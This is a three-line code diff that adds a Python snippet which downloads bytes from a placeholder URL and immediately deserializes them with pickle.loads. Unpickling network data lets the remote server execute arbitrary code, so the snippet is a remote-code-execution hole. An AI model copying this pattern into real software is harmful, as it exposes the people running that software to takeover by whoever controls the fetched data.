@@ -1,0 +1,3 @@
+import pickle, requests
+job = requests.get("https://jobs.invalid/next").content
+pickle.loads(job)
